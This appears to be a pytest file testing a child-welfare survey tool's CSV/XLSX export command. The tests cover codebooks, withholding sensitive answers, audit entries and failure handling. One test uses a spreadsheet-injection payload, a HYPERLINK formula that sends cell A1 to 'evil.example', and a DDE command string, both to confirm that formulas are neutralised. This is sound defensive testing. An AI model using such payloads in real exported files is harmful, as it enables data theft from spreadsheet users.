"""`cwtt export assessments|risk-profiles|research --wave NAME --format csv|xlsx`: a wave's data
with a codebook, read back as a spreadsheet program would.

Lwazi (Sunrise) and Ayanda (Hilltop) are assessed by caregiver, teacher and nurse with the mini
instrument. A data manager reads general answers only (cwtt/access/sensitivity.py), so the
assessments file carries the caregiver's meals, hunger and worries and leaves out the seven
education, health and protection questions.
"""

from __future__ import annotations

import csv
import datetime as dt
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from cwtt.access.models import AuditEntry
from cwtt.assessments.actions import assessment_save
from cwtt.assessments.models import Assessment
from cwtt.tabular.reading import cell_text
from cwtt.tabular.writing import CODEBOOK_HEADER

from ..conftest import make_child  # noqa: TID252 - shared test helper

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"Click")'
GENERAL = ["cg_meals", "cg_hungry", "cg_worries"]
ASSESSMENT_COLUMNS = [
    "assessment",
    "child_id",
    "school",
    "wave",
    "respondent",
    "assessed_on",
    "status",
    "instrument_version",
    *GENERAL,
]


def assess(child, wave, on=dt.date(2026, 3, 2)):
    answers = {
        "caregiver": {
            "cg_meals": 1,
            "cg_hungry": "yes",
            "cg_hit": "yes",
            "cg_worries": ["dark", "school"],
            "cg_dep9": "0",
        },
        "teacher": {"tc_abuse": "yes", "tc_absent": 6},
        "nurse": {"ns_height": 118.5, "ns_weight": 21.3, "ns_abuse": "no"},
    }
    for respondent, given in answers.items():
        assessment_save(
            child=child, wave=wave, respondent=respondent, answers=given, assessed_on=on
        )


@pytest.fixture
def assessed(child, other_child, wave):
    for someone in (child, other_child):
        assess(someone, wave)
    return [child, other_child]


def run(*args, **options) -> str:
    out = StringIO()
    call_command("export", *args, stdout=out, **options)
    return out.getvalue()


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as file:
        reader = csv.DictReader(file)
        return list(reader.fieldnames or []), list(reader)


def read_xlsx(path: Path) -> dict[str, list[list]]:
    book = load_workbook(path)
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in book}


def codebook_of(rows: list[list]) -> dict[str, dict[str, str]]:
    header, *body = rows
    assert list(header) == CODEBOOK_HEADER
    return {row[0]: dict(zip(header, row, strict=True)) for row in body}


# --- the data manager's assessments file ----------------------------------------------------


def test_a_waves_assessments_export_as_csv_with_a_codebook_beside_it(tmp_path, assessed):
    output = tmp_path / "wave1.csv"
    said = run("assessments", wave="Wave 1", output=str(output))
    assert "Wrote 6 assessments" in said
    assert "7 questions of classes a data manager may not read were left out" in said
    header, rows = read_csv(output)
    assert header == ASSESSMENT_COLUMNS
    lwazi = assessed[0]
    caregiver = next(
        r for r in rows if r["respondent"] == "caregiver" and r["child_id"] == str(lwazi.pk)
    )
    assert caregiver["school"] == "700111111" and caregiver["wave"] == "Wave 1"
    assert caregiver["cg_worries"] == "dark school" and caregiver["cg_meals"] == "1"
    assert caregiver["instrument_version"] == "mini t1"
    assert caregiver["assessment"] == str(
        Assessment.objects.get(child=lwazi, respondent="caregiver").uuid
    )

    book_header, book = read_csv(tmp_path / "wave1-codebook.csv")
    assert book_header == CODEBOOK_HEADER
    by_name = {row["column"]: row for row in book}
    assert list(by_name) == ASSESSMENT_COLUMNS  # one row per column, in order
    assert by_name["cg_hungry"] == {
        "column": "cg_hungry",
        "label": "Went to bed hungry?",
        "type": "select_one yn",
        "choices": "yes = Yes; no = No",
        "sensitivity": "general",
        "source": "question cg_hungry of mini version t1",
    }
    assert by_name["cg_worries"]["type"] == "select_multiple worry"
    assert by_name["child_id"]["sensitivity"] == "identity"


def test_answers_a_data_manager_may_not_read_are_not_in_the_file(tmp_path, assessed):
    output = tmp_path / "wave1.csv"
    run("assessments", wave="Wave 1", output=str(output))
    text = output.read_text() + (tmp_path / "wave1-codebook.csv").read_text()
    for withheld in ["cg_hit", "cg_dep9", "tc_abuse", "tc_absent", "ns_height", "ns_abuse"]:
        assert withheld not in text
    assert "118.5" not in text


def test_the_xlsx_export_round_trips_with_the_codebook_on_a_second_sheet(tmp_path, assessed):
    run("assessments", wave="Wave 1", output=str(tmp_path / "a.csv"))
    run("assessments", wave="Wave 1", output=str(tmp_path / "a.xlsx"))
    sheets = read_xlsx(tmp_path / "a.xlsx")
    assert list(sheets) == ["assessments", "codebook"]
    header, *rows = sheets["assessments"]
    assert header == ASSESSMENT_COLUMNS
    _, from_csv = read_csv(tmp_path / "a.csv")
    as_text = [[cell_text(v) for v in row] for row in rows]  # dates as a spreadsheet shows them
    assert as_text == [[r[c] for c in ASSESSMENT_COLUMNS] for r in from_csv]
    meals = {row[ASSESSMENT_COLUMNS.index("cg_meals")] for row in rows} - {None}
    assert meals == {1}  # a number stays a number
    _, csv_book = read_csv(tmp_path / "a-codebook.csv")
    book = codebook_of(sheets["codebook"])
    assert [dict((k, v or "") for k, v in row.items()) for row in book.values()] == csv_book
    assert not (tmp_path / "a-codebook.xlsx").exists()


def test_the_risk_profiles_of_one_wave_as_xlsx(tmp_path, assessed, wave):
    said = run("risk-profiles", wave="Wave 1", output=str(tmp_path / "r.xlsx"))
    assert "Wrote 2 risk profiles" in said
    sheets = read_xlsx(tmp_path / "r.xlsx")
    assert list(sheets) == ["risk profiles", "codebook"]
    header, *rows = sheets["risk profiles"]
    assert header[:3] == ["child_id", "school", "wave"] and header[-1] == "instrument_version"
    assert len(rows) == 2 and {r[header.index("protection")] for r in rows} == {"high"}
    book = codebook_of(sheets["codebook"])
    assert book["health"]["choices"].startswith("low = Low; moderate = Moderate; high = High")
    assert book["urgent"]["type"] == "boolean"


def test_the_research_export_has_a_codebook_in_both_formats(tmp_path, assessed):
    run("research", wave="Wave 1", output=str(tmp_path / "r.csv"))
    _, book = read_csv(tmp_path / "r-codebook.csv")
    by_name = {row["column"]: row for row in book}
    assert by_name["nurse.ns_height"]["sensitivity"] == "health"
    assert by_name["nurse.ns_height"]["source"] == (
        "question ns_height of mini version t1, answered by the nurse"
    )
    assert by_name["sex"]["choices"] == "M = Male; F = Female"
    run("research", wave="Wave 1", output=str(tmp_path / "r.xlsx"))
    sheets = read_xlsx(tmp_path / "r.xlsx")
    assert list(sheets) == ["research", "codebook"]
    header, *rows = sheets["research"]
    header_csv, rows_csv = read_csv(tmp_path / "r.csv")
    assert header == header_csv and len(rows) == len(rows_csv) == 2
    # Numbers are numbers in the workbook, as a researcher's software expects.
    assert {row[header.index("age_months")] for row in rows} == {94}
    assert {row[header.index("nurse.ns_height")] for row in rows} == {118.5}
    assert {row[header.index("quintile")] for row in rows} == {1, 2}
    assert list(codebook_of(sheets["codebook"])) == header


def test_formula_cells_are_neutralised_in_both_formats(tmp_path, assessed, wave):
    wave.name = HOSTILE
    wave.save()
    stored = Assessment.objects.get(child=assessed[0], respondent="caregiver")
    stored.answers = stored.answers | {"cg_hungry": "@SUM(1+1)*cmd|' /C calc'!A0"}
    stored.save(update_fields=["answers"])

    run("assessments", wave=HOSTILE, output=str(tmp_path / "h.csv"))
    _, rows = read_csv(tmp_path / "h.csv")
    assert {r["wave"] for r in rows} == {"'" + HOSTILE}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {r["cg_hungry"] for r in rows}

    run("assessments", wave=HOSTILE, output=str(tmp_path / "h.xlsx"))
    sheet = load_workbook(tmp_path / "h.xlsx")["assessments"]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                assert cell.quotePrefix, cell.coordinate
    waves = {row[3].value for row in sheet.iter_rows(min_row=2)}
    assert waves == {HOSTILE}  # the exact text, stored as text


def test_each_export_is_audited(tmp_path, assessed):
    run("assessments", wave="Wave 1", output=str(tmp_path / "a.xlsx"))
    run("risk-profiles", wave="Wave 1", output=str(tmp_path / "r.csv"))
    entries = {e.object_type: e for e in AuditEntry.objects.filter(action="export")}
    assert entries["assessments"].detail == {
        "rows": 6,
        "file": str(tmp_path / "a.xlsx"),
        "wave": "Wave 1",
    }
    assert entries["risk_profiles"].detail["rows"] == 2
    assert entries["assessments"].actor_name == "command line"


def test_mistakes_on_the_command_line_get_plain_messages(tmp_path, assessed):
    with pytest.raises(CommandError, match="ends in .csv but the format asked for is xlsx"):
        run("assessments", wave="Wave 1", output=str(tmp_path / "a.csv"), format="xlsx")
    with pytest.raises(CommandError, match="Say which wave's assessments"):
        run("assessments", output=str(tmp_path / "a.csv"))
    with pytest.raises(CommandError, match="No wave is called 'Wave 5'"):
        run("risk-profiles", wave="Wave 5", output=str(tmp_path / "a.csv"))
    with pytest.raises(CommandError, match="does not exist"):
        run("assessments", wave="Wave 1", output=str(tmp_path / "no" / "a.csv"))
    with pytest.raises(CommandError, match="--mapping and --post apply to the dhis2"):
        run("assessments", wave="Wave 1", output=str(tmp_path / "a.csv"), post=True)
    assert list(tmp_path.iterdir()) == []
    assert not AuditEntry.objects.filter(action="export").exists()


def test_a_failure_half_way_leaves_no_file_no_codebook_and_no_entry(
    tmp_path, assessed, monkeypatch
):
    """The disk fills up after the first rows, in either format."""
    from cwtt.tabular import writing

    def failing_after(real, rows):
        calls = {"n": 0}

        def write(*args, **kwargs):
            calls["n"] += 1
            if calls["n"] > rows:
                raise OSError(28, "No space left on device")
            return real(*args, **kwargs)

        return write

    monkeypatch.setattr(writing, "xlsx_row", failing_after(writing.xlsx_row, 3))
    real_csv_writer = writing.csv_writer

    def csv_writer(file):
        writer = real_csv_writer(file)
        writer.writerow = failing_after(writer.writerow, 3)
        return writer

    monkeypatch.setattr(writing, "csv_writer", csv_writer)
    for name in ("a.csv", "a.xlsx"):
        with pytest.raises(OSError, match="No space left"):
            run("assessments", wave="Wave 1", output=str(tmp_path / name))
    assert list(tmp_path.iterdir()) == []
    assert not AuditEntry.objects.filter(action="export").exists()
    # The database is still usable after the failure.
    assert Assessment.objects.count() == 6


# --- query counts ---------------------------------------------------------------------------


def _queries(tmp_path, *args, **options) -> int:
    run(*args, **options)  # once, so the compiled instrument is cached
    with CaptureQueriesContext(connection) as queries:
        run(*args, **options)
    return len(queries)


@pytest.mark.parametrize(
    ("what", "name"),
    [
        ("assessments", "a.csv"),
        ("assessments", "a.xlsx"),
        ("risk-profiles", "r.xlsx"),
        ("research", "s.csv"),
        ("research", "s.xlsx"),
    ],
)
def test_each_export_costs_the_same_queries_at_two_sizes(tmp_path, wave, sunrise, what, name):
    children = [make_child(sunrise, first=f"Child{i}") for i in range(12)]
    for someone in children[:3]:
        assess(someone, wave)
    output = str(tmp_path / name)
    small = _queries(tmp_path, what, wave="Wave 1", output=output)
    for someone in children[3:]:
        assess(someone, wave)
    large = _queries(tmp_path, what, wave="Wave 1", output=output)
    assert Assessment.objects.count() == 36
    assert small == large, (small, large)
